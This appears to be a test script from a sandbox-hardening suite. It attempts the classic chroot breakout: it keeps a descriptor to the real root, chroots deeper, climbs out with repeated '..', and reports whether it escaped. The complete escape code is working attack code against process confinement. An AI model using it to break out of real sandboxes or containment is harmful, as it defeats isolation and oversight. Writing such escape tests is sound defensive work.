# attack: the chroot breakout: chroot deeper, climb out by a descriptor
# family: 7
# runs: root
# stopped-by: root
#
# As old as chroot. With pivot_root there is nothing above; with chroot instead, the host is.
import os


def _names():
    try:
        return " ".join(sorted(os.listdir("/"))[:8])
    except OSError as error:  # Landlock still keeps its files shut
        return "which can't be listed: " + error.strerror


def attack():
    before = os.stat("/")
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.makedirs("/tmp/deeper", exist_ok=True)
    try:
        os.chroot("/tmp/deeper")
    except PermissionError as error:
        return f"HELD: chroot: {error.strerror}"
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    after = os.stat("/")
    if (before.st_dev, before.st_ino) != (after.st_dev, after.st_ino):
        return "ESCAPED: above the root lies another: " + _names()
    return "HELD: above the root there is nothing"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
